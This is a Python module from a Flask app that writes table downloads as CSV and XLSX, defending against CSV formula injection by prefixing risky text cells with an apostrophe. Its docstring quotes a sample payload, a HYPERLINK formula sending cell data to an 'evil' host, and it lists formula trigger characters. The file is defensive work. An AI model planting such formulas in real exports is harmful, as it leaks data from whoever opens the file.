"""The one writer behind every table download (CSV and XLSX): participant text is hostile until neutralised.

A comment such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` becomes a live formula when a spreadsheet
opens the file (CSV injection, CWE-1236). Every text cell goes through `safe_text`, which prefixes such a
value with an apostrophe (OWASP's advice); numbers, dates and booleans are written as typed values, so
sorting and sums keep working. Views build an `ExportTable` and return `table_response(table, format)`.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

from flask import Response
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter

#: Characters a spreadsheet reads as the start of a formula (and the tab/CR tricks that hide one).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMATS = ("csv", "xlsx")
MIME_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def safe_text(value: str) -> str:
    """The text as a spreadsheet must show it: never a formula, never a control character."""
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    stripped = value.lstrip(" \u00a0")
    if stripped.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_cell(value: Any) -> Any:
    """Typed values stay typed (a number is not text); anything else is written as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | date | datetime):
        return value
    return safe_text(str(value))


@dataclass(frozen=True)
class Column:
    key: str
    label: str


@dataclass
class ExportTable:
    """A table as a user downloads it: a title (the sheet's name), labelled columns, rows of values."""

    title: str
    columns: Sequence[Column]
    rows: list[dict[str, Any]] = field(default_factory=list)

    def values(self) -> Iterable[list[Any]]:
        for row in self.rows:
            yield [safe_cell(row.get(column.key)) for column in self.columns]


def to_csv(table: ExportTable) -> bytes:
    """UTF-8 with a BOM and semicolons: what a French spreadsheet opens without an import dialog."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([safe_text(column.label) for column in table.columns])
    for values in table.values():
        writer.writerow([_csv_value(v) for v in values])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _csv_value(value: Any) -> str:
    if isinstance(value, float):
        return f"{value:.4f}".rstrip("0").rstrip(".").replace(".", ",")  # the French decimal comma
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool):
        return "oui" if value else "non"
    return str(value)


def to_xlsx(table: ExportTable) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(table.title))
    sheet.append([safe_text(column.label) for column in table.columns])
    for values in table.values():
        sheet.append(values)
    for index, column in enumerate(table.columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(60, max(10, len(column.label) + 2))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _sheet_title(title: str) -> str:
    """Excel refuses []:*?/\\ in a sheet's name and more than 31 characters."""
    cleaned = re.sub(r"[\[\]:*?/\\]", " ", title).strip() or "Export"
    return cleaned[:31]


def download_name(title: str, extension: str) -> str:
    """An ASCII file name from the table's title: "Taux par axe 2025" -> "taux-par-axe-2025.csv"."""
    ascii_title = unicodedata.normalize("NFKD", title).encode("ascii", "ignore").decode()
    slug = re.sub(r"[^a-z0-9]+", "-", ascii_title.lower()).strip("-") or "export"
    return f"{slug[:80]}.{extension}"


def table_response(table: ExportTable, format: str) -> Response:
    """The table as a download in `format` ("csv" or "xlsx"); the caller has checked the format."""
    content = to_xlsx(table) if format == "xlsx" else to_csv(table)
    response = Response(content, mimetype=MIME_TYPES[format])
    response.headers["Content-Disposition"] = f'attachment; filename="{download_name(table.title, format)}"'
    return response
